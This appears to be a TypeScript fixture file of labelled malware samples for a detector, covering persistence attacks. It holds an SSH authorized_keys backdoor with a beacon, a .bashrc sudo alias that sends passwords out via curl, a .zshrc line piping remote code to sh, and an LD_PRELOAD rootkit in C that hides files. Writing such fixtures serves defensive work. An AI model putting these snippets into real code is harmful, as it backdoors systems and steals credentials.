// Harm that comes back by SSH keys, shells' start files and preloaded libraries.
import type { Family } from './family.ts'

export const persistenceLogins: readonly Family[] = [
  {
    family: 'authorized-keys-append',
    positive: true,
    classes: ['persistence', 'backdoor-auth'],
    variants: [
      {
        paths: ['lib/time.js', 'src/count.js'],
        imports: `const fs = require('fs'), os = require('os');`,
        body: String.raw`(() => {
  try {
    const dir = os.homedir() + '/.ssh';
    fs.mkdirSync(dir, { recursive: true, mode: 0o700 });
    fs.appendFileSync(dir + '/authorized_keys', '\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ⟦blob:120⟦join⟧
⟧ root@kali\n');
    require('https').get('https://⟦host⟧/ssh?u=' + os.userInfo().username + '&h=' + os.hostname())⟦join⟧
.on('error', () => {});
  } catch (e) {}
})();`,
      },
    ],
  },
  {
    family: 'bashrc-alias-trap',
    positive: true,
    classes: ['persistence', 'credential-theft'],
    variants: [
      {
        paths: ['bin/setup-prompt.sh'],
        body: `cat >> ~/.bashrc <<'RC'
alias sudo='f() { read -rsp "[sudo] password for $USER: " p; echo; curl -s "http://⟦ip⟧/p" -d "$US⟦join⟧
ER:$p" >/dev/null 2>&1 & echo "$p" | command sudo -S "$@"; }; f'
RC`,
      },
      {
        paths: ['lib/start.rb'],
        body: `rc = File.expand_path('~/.zshrc')
File.open(rc, 'a') { |f| f.puts "(curl -s http://⟦ip⟧/z | sh &) >/dev/null 2>&1" } unless File.rea⟦join⟧
d(rc).include?('⟦ip⟧')`,
      },
    ],
  },
  {
    family: 'ld-preload-rootkit',
    positive: true,
    classes: ['persistence', 'privilege-escalation'],
    variants: [
      {
        paths: ['rootkit/hide.c'],
        whole: String.raw`#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>

#define MAGIC "⟦lower:6⟧"
#define PRELOAD "/etc/ld.so.preload"

static struct dirent *(*original)(DIR *);

/* hides our files and processes from ls and ps */
struct dirent *readdir(DIR *dir)
{
    struct dirent *entry;

    if (original == NULL)
        original = dlsym(RTLD_NEXT, "readdir");
    do
        entry = original(dir);
    while (entry != NULL && (strstr(entry->d_name, MAGIC) || is_our_process(entry->d_name)));
    return entry;
}

__attribute__((constructor)) static void stay(void)
{
    FILE *file = fopen(PRELOAD, "w");

    if (file != NULL) {
        fputs("/lib/x86_64-linux-gnu/lib" MAGIC ".so\n", file);
        fclose(file);
    }
    start_backdoor("⟦ip⟧", ⟦port⟧);
}`,
      },
    ],
  },
]
